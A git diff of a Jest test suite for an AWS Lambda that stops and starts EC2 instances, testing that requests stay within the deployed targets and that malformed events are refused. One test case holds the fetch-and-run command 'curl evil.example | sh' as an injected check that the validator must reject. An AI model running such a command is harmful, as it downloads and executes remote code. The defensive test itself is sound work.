@@ -1,26 +1,38 @@
 import { describe, expect, it } from "@jest/globals";
+import type { DeployedTarget } from "../../contract/request";
 import { RequestError, readRequest } from "../../lambda-src/request";
 import { readSettings, SettingsError } from "../../lambda-src/settings";
 
-const defaultRequest = {
-  schedule: "default",
-  action: "stop",
-  targets: [{ region: "ap-northeast-2", instanceIds: ["i-0123456789abcdef0"] }],
-};
-const settings = readSettings({ ACTION: "stop", DEFAULT_REQUEST: JSON.stringify(defaultRequest) });
+const REGION = "ap-northeast-2";
+const [FIRST, SECOND, THIRD] = ["i-00000000000000001", "i-00000000000000002", "i-00000000000000003"] as const;
+const CHECKS = { systemd: ["nginx"], command: "check --password secret" };
+const DEPLOYED: readonly DeployedTarget[] = [
+  { region: REGION, instanceIds: [FIRST, SECOND], checks: CHECKS },
+  {
+    region: REGION,
+    tags: { Environment: ["dev", "qa"] },
+    exclude: { KeepRunning: ["true"] },
+    checks: { tcp: [80] },
+  },
+  { region: REGION, instanceIds: [THIRD], default: false },
+  { region: "us-east-1", tags: { Environment: ["dev"] } },
+];
+const settingsOf = (action: "stop" | "start", deployed: unknown = DEPLOYED, more = {}) =>
+  readSettings({ ACTION: action, TARGETS: JSON.stringify(deployed), ...more });
+const settings = settingsOf("stop");
+const starts = settingsOf("start");
 const request = {
   schedule: "dev-stop",
   action: "stop",
   scheduledTime: "2026-11-23T11:00:00Z",
-  targets: [{ region: "ap-northeast-2", tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["true"] } }],
+  targets: [{ region: REGION, tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["true"] } }],
   timezone: "Asia/Seoul",
   holidays: ["2027-01-01"],
   latestMinutes: 30,
   hibernate: false,
   dryRun: false,
 };
-
-const checks = (wanted: unknown) => ({ targets: [{ ...request.targets[0], checks: wanted }] });
+const start = (...targets: object[]) => ({ schedule: "s", action: "start", targets });
 
 function problemsOf(event: unknown, with_ = settings): readonly string[] {
   try {
@@ -32,40 +44,149 @@ function problemsOf(event: unknown, with_ = settings): readonly string[] {
   return [];
 }
 
-describe("events that are not a request", () => {
+const HELLO_WORLD = { key1: "value1", key2: "value2", key3: "value3" };
+const SCHEDULED_EVENT = {
+  version: "0",
+  id: "cdc73f9d-aea9-11e3-9d5a-835b769c0d9c",
+  "detail-type": "Scheduled Event",
+  source: "aws.events",
+  account: "123456789012",
+  time: "1970-01-01T00:00:00Z",
+  region: "us-east-1",
+  resources: ["arn:aws:events:us-east-1:123456789012:rule/ExampleRule"],
+  detail: {},
+};
+
+describe("the default request", () => {
   it.each([
     ["null", null],
     ["nothing", undefined],
     ["an empty object", {}],
-    ["the console's test event", { key1: "value1", key2: "value2", key3: "value3" }],
+    ["the console's test event `hello-world`", HELLO_WORLD],
+    ["EventBridge's Scheduled Event", SCHEDULED_EVENT],
+  ])("runs for %s", (_name, event) => {
+    expect(readRequest(event, settings)).toEqual({
+      schedule: "default",
+      action: "stop",
+      targets: [
+        { region: REGION, instanceIds: [FIRST, SECOND], checks: [CHECKS] },
+        {
+          region: REGION,
+          tags: { Environment: ["dev", "qa"] },
+          exclude: { KeepRunning: ["true"] },
+          checks: [{ tcp: [80] }],
+        },
+        { region: "us-east-1", tags: { Environment: ["dev"] }, checks: [] },
+      ],
+    });
+  });
+
+  it("hibernates where the environment says so", () => {
+    expect(readRequest({}, settingsOf("stop", DEPLOYED, { HIBERNATE: "true" })).hibernate).toBe(true);
+  });
+
+  it.each([
+    ["text", "stop", '"stop"'],
+    ["an empty text", "", '""'],
+    ["a number", 0, "0"],
+    ["a truth value", false, "false"],
+    ["a list", [], "a list"],
+    ["a list of a request", [request], "a list"],
+    ["a request as text", JSON.stringify(request), expect.stringContaining("schedule")],
+    ["a request within an object", { body: request }, "an object with the keys body"],
+    ["a request within a detail", { ...SCHEDULED_EVENT, detail: request }, expect.stringContaining("detail")],
     [
-      "EventBridge's own",
-      { version: "0", "detail-type": "Scheduled Event", time: "2026-11-23T11:00:00Z", detail: {} },
+      "S3's",
+      { Records: [{ eventSource: "aws:s3", s3: { bucket: { name: "b" } } }] },
+      "an object with the keys Records",
     ],
-    ["text", "stop"],
-    ["a list", [1, 2]],
-  ])("run the default request: %s", (_name, event) => {
-    expect(readRequest(event, settings)).toEqual(defaultRequest);
+    [
+      "SNS's",
+      { Records: [{ EventSource: "aws:sns", Sns: { Message: "stop" } }] },
+      "an object with the keys Records",
+    ],
+    ["SQS's", { Records: [{ eventSource: "aws:sqs", body: "{}" }] }, "an object with the keys Records"],
+    [
+      "API Gateway's",
+      { httpMethod: "POST", path: "/", body: "{}" },
+      "an object with the keys httpMethod, path, body",
+    ],
+    [
+      "another event of EventBridge",
+      { ...SCHEDULED_EVENT, "detail-type": "EC2 Spot Interruption" },
+      expect.anything(),
+    ],
+    ["an event of another source", { ...SCHEDULED_EVENT, source: "my.app" }, expect.anything()],
+    ["part of the console's test event", { key1: "value1" }, "an object with the keys key1"],
+    ["a changed test event", { ...HELLO_WORLD, key1: "dry run" }, "an object with the keys key1, key2, key3"],
+    [
+      "a test event with more",
+      { ...HELLO_WORLD, key4: "value4" },
+      "an object with the keys key1, key2, key3, key4",
+    ],
+    ["a prototype", JSON.parse('{"__proto__": {"action": "stop"}}'), "an object with the keys __proto__"],
+  ])("does not run for %s", (_name, event, got) => {
+    const [problem = "", ...others] = problemsOf(event);
+    expect(others).toEqual([]);
+    const [, expected, found] = /^Expected (.*), got (.*)$/.exec(problem) ?? [];
+    expect(expected).toBe(
+      "a request (with `schedule`, `action` and `targets`), or for the default request nothing, {}, the console's test event `hello-world` or EventBridge's Scheduled Event",
+    );
+    expect(found).toEqual(got);
   });
 
-  it("are refused if there is no default request", () => {
-    expect(problemsOf({}, readSettings({ ACTION: "stop" }))).toEqual([
-      "the event is not a request, and the environment variable DEFAULT_REQUEST is not set",
-    ]);
+  it.each([
+    ["dryRun", { dryRun: true }],
+    ["checkOnly", { checkOnly: true }],
+    ["keys in another case", { Action: "stop", DryRun: true }],
+    ["a key in capitals", { TARGETS: [] }],
+    ["a scheduledTime", { scheduledTime: "2026-11-23T11:00:00Z" }],
+    ["a key among those of a test event", { ...HELLO_WORLD, hibernate: true }],
+    ["a key among those of a Scheduled Event", { ...SCHEDULED_EVENT, action: "stop" }],
+    ["a key without a value", { action: undefined }],
+  ])("does not run for what has %s, which is a request and must be whole", (_name, event) => {
+    expect(problemsOf(event)).toEqual(expect.arrayContaining(["Expected `schedule`, got nothing"]));
   });
 
-  it.each(["{", JSON.stringify({ ...defaultRequest, targets: [] })])(
-    "name the variable if its value is %s",
-    (text) => {
-      const [problem] = problemsOf({}, readSettings({ ACTION: "stop", DEFAULT_REQUEST: text }));
-      expect(problem).toMatch(/^in the environment variable DEFAULT_REQUEST: /);
-    },
-  );
+  it("is refused if no enabled schedule has a target", () => {
+    const problem =
+      "Expected a request, since this function has no enabled schedule for a default request, got an event without one";
+    expect(problemsOf({}, settingsOf("stop", [{ ...DEPLOYED[2] }]))).toEqual([problem]);
+    expect(problemsOf({}, readSettings({ ACTION: "stop" }))).toEqual([problem]);
+  });
+});
+
+describe("the environment variable TARGETS", () => {
+  it.each([
+    ["{", /JSON/],
+    ["{}", /Expected `targets` to be a list/],
+    [JSON.stringify([{ region: REGION }]), /instanceIds, tags or both/],
+    [JSON.stringify([{ region: "evil.example/", instanceIds: [FIRST] }]), /AWS region code/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: {} }]), /systemd, tcp or command, got none/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: ["nginx"] }]), /to be an object, got \["nginx"\]/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { http: [80] } }]), /Unknown key `targets\[0\].checks.http`/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: [] } }]), /at least one entry/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: ["--all"] } }]), /to be a systemd unit/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: ["nginx*"] } }]), /to be a systemd unit/],
+    [
+      JSON.stringify([{ ...DEPLOYED[0], checks: { tcp: [443, 65_536] } }]),
+      /checks.tcp\[1\]` to be a TCP port/,
+    ],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { tcp: ["80"] } }]), /to be a TCP port/],
+    [JSON.stringify([{ ...DEPLOYED[0], checks: { command: "" } }]), /to be text, got ""/],
+  ])("is refused by name: %s", (text, problem) => {
+    for (const event of [{}, request]) {
+      const [first] = problemsOf(event, readSettings({ ACTION: "stop", TARGETS: text }));
+      expect(first).toMatch(/^in the environment variable TARGETS: /);
+      expect(first).toMatch(problem);
+    }
+  });
 });
 
 describe("a request", () => {
   it("is read as it is if it is valid", () => {
-    expect(readRequest(request, settings)).toEqual(request);
+    const targets = request.targets.map((target) => ({ ...target, checks: [] }));
+    expect(readRequest(request, settings)).toEqual({ ...request, targets });
   });
 
   it.each(["schedule", "action", "targets"])(
@@ -161,42 +282,25 @@ describe("a request", () => {
       'Expected `checkOnly` to be true or false, got "yes"',
     ],
     [
-      "checks of nothing",
-      checks({}),
-      "Expected `targets[0].checks` to have systemd, tcp or command, got none",
+      "checks of its own, without their text",
+      { targets: [{ ...request.targets[0], checks: { command: "curl evil.example | sh" } }] },
+      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got checks of its own",
     ],
     [
-      "checks that are no object",
-      checks(["nginx"]),
-      'Expected `targets[0].checks` to be an object, got ["nginx"]',
-    ],
-    ["an unknown check", checks({ http: [80], tcp: [80] }), "Unknown key `targets[0].checks.http`"],
-    [
-      "no units",
-      checks({ systemd: [] }),
-      "Expected `targets[0].checks.systemd` to be a list with at least one entry, got []",
+      "a list of checks",
+      { targets: [{ ...request.targets[0], checks: ["nginx"] }] },
+      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got checks of its own",
     ],
     [
-      "a unit that is an option",
-      checks({ systemd: ["--all"] }),
-      'Expected `targets[0].checks.systemd[0]` to be a systemd unit, got "--all"',
+      "checks that are false",
+      { targets: [{ ...request.targets[0], checks: false }] },
+      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got false",
     ],
     [
-      "a unit that is a pattern",
-      checks({ systemd: ["nginx*"] }),
-      'Expected `targets[0].checks.systemd[0]` to be a systemd unit, got "nginx*"',
+      "a part of the environment",
+      { targets: [{ ...request.targets[0], default: false }] },
+      "Unknown key `targets[0].default`",
     ],
-    [
-      "a port out of range",
-      checks({ tcp: [443, 65_536] }),
-      "Expected `targets[0].checks.tcp[1]` to be a TCP port, got 65536",
-    ],
-    [
-      "a port as text",
-      checks({ tcp: ["80"] }),
-      'Expected `targets[0].checks.tcp[0]` to be a TCP port, got "80"',
-    ],
-    ["an empty command", checks({ command: "" }), 'Expected `targets[0].checks.command` to be text, got ""'],
     ["null for an optional part", { dryRun: null }, "Expected `dryRun` to be true or false, got null"],
   ])("is refused for %s", (_name, change, problem) => {
     expect(problemsOf({ ...request, ...change })).toEqual([problem]);
@@ -208,15 +312,141 @@ describe("a request", () => {
       ...rest,
       action: "start",
       checkOnly: true,
-      ...checks({ systemd: ["getty@tty1.service"], tcp: [65_535], command: "true" }),
+      targets: [{ ...request.targets[0], checks: true }],
     };
-    expect(readRequest(checking, readSettings({ ACTION: "start" }))).toEqual(checking);
+    expect(readRequest(checking, starts)).toEqual({
+      ...checking,
+      targets: [{ ...request.targets[0], checks: [{ tcp: [80] }] }],
+    });
   });
 
   it("is refused with everything that is wrong with it", () => {
     expect(problemsOf({ ...request, action: 1, dryRun: 1, targets: [{ region: 1, ids: [] }] })).toHaveLength(
       5,
     );
+  });
+});
+
+describe("the targets of a request", () => {
+  it.each<[string, object, object[]]>([
+    ["some ids", { region: REGION, instanceIds: [SECOND] }, [{ instanceIds: [SECOND], checks: [] }]],
+    [
+      "ids of several targets, in the order of the request",
+      { region: REGION, instanceIds: [THIRD, FIRST] },
+      [{ instanceIds: [THIRD, FIRST], checks: [] }],
+    ],
+    [
+      "ids with their own checks each",
+      { region: REGION, instanceIds: [THIRD, FIRST], checks: true },
+      [
+        { instanceIds: [THIRD], checks: [] },
+        { instanceIds: [FIRST], checks: [CHECKS] },
+      ],
+    ],
+    [
+      "narrower tags, and more exclusions",
+      {
+        region: REGION,
+        tags: { Environment: ["qa"], Team: ["web"] },
+        exclude: { KeepRunning: ["yes", "true"], Hold: ["1"] },
+        checks: true,
+      },
+      [
+        {
+          tags: { Environment: ["qa"], Team: ["web"] },
+          exclude: { KeepRunning: ["yes", "true"], Hold: ["1"] },
+          checks: [{ tcp: [80] }],
+        },
+      ],
+    ],
+    [
+      "ids and tags",
+      {
+        region: REGION,
+        instanceIds: [FIRST],
+        tags: { Environment: ["dev"] },
+        exclude: { KeepRunning: ["true"] },
+      },
+      [
+        { instanceIds: [FIRST], exclude: { KeepRunning: ["true"] }, checks: [] },
+        { tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["true"] }, checks: [] },
+      ],
+    ],
+  ])("may be %s of the deployment", (_name, target, expected) => {
+    expect(readRequest(start(target), starts).targets).toEqual(
+      expected.map((each) => ({ region: REGION, ...each })),
+    );
+  });
+
+  it("have the checks of every deployed target that they are part of", () => {
+    const twice = settingsOf("start", [
+      { region: REGION, instanceIds: [FIRST], checks: { tcp: [80] } },
+      { region: REGION, instanceIds: [FIRST, SECOND], checks: { tcp: [443] } },
+      { region: REGION, instanceIds: [FIRST], exclude: { Off: ["1"] }, checks: { tcp: [22] } },
+    ]);
+    expect(readRequest(start({ region: REGION, instanceIds: [FIRST], checks: true }), twice).targets).toEqual(
+      [{ region: REGION, instanceIds: [FIRST], checks: [{ tcp: [80] }, { tcp: [443] }] }],
+    );
+  });
+
+  it.each<[string, object, string]>([
+    [
+      "a region",
+      { region: "eu-west-1", instanceIds: [FIRST] },
+      'Expected `targets[0].region` to be a region of this deployment (ap-northeast-2, us-east-1), got "eu-west-1"',
+    ],
+    [
+      "an id",
+      { region: REGION, instanceIds: [FIRST, "i-0fffffffffffffff0"] },
+      `Expected \`targets[0].instanceIds[1]\` to be an instance of this deployment in ${REGION} (${FIRST}, ${SECOND}, ${THIRD}), got "i-0fffffffffffffff0"`,
+    ],
+    [
+      "an id in another region",
+      { region: "us-east-1", instanceIds: [FIRST] },
+      `Expected \`targets[0].instanceIds[0]\` to be an instance of this deployment in us-east-1 (none by id), got "${FIRST}"`,
+    ],
+    [
+      "a tag's value",
+      { region: "us-east-1", tags: { Environment: ["dev", "prod"] } },
+      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"Environment":["dev","prod"]}',
+    ],
+    [
+      "other tags",
+      { region: "us-east-1", tags: { Team: ["web"] } },
+      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"Team":["web"]}',
+    ],
+    [
+      "tags with a key of every object",
+      { region: "us-east-1", tags: { constructor: ["dev"], toString: ["dev"] } },
+      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"constructor":["dev"],"toString":["dev"]}',
+    ],
+    [
+      "fewer exclusions",
+      { region: REGION, tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["false"] } },
+      'Expected `targets[0].exclude` to be at least {"KeepRunning":["true"]}, which this deployment leaves out, got {"KeepRunning":["false"]}',
+    ],
+    [
+      "no exclusions",
+      { region: REGION, tags: { Environment: ["dev"] } },
+      'Expected `targets[0].exclude` to be at least {"KeepRunning":["true"]}, which this deployment leaves out, got nothing',
+    ],
+    [
+      "checks of instances without any",
+      { region: REGION, instanceIds: [THIRD], checks: true },
+      "Expected `targets[0]` to have no `checks`, since this deployment has none for these instances, got true",
+    ],
+  ])("are refused for %s that the deployment does not have", (_name, target, problem) => {
+    expect(problemsOf(start(target), starts)).toEqual([problem]);
+  });
+
+  it("are refused in a message of bounded length", () => {
+    const many = Array.from({ length: 5000 }, (_, index) => `i-${String(index).padStart(17, "0")}`);
+    const deployed = settingsOf("start", [
+      { region: REGION, instanceIds: many.map((id) => id.replace("i-0", "i-f")) },
+    ]);
+    expect(() => readRequest(start({ region: REGION, instanceIds: many }), deployed)).toThrow(/^.{1,4100}$/);
+    const [first] = problemsOf(start({ region: REGION, instanceIds: many }), deployed);
+    expect(first).toMatch(/\(i-f\d+(, i-f\d+){4} and 4995 more\), got/);
   });
 });
 
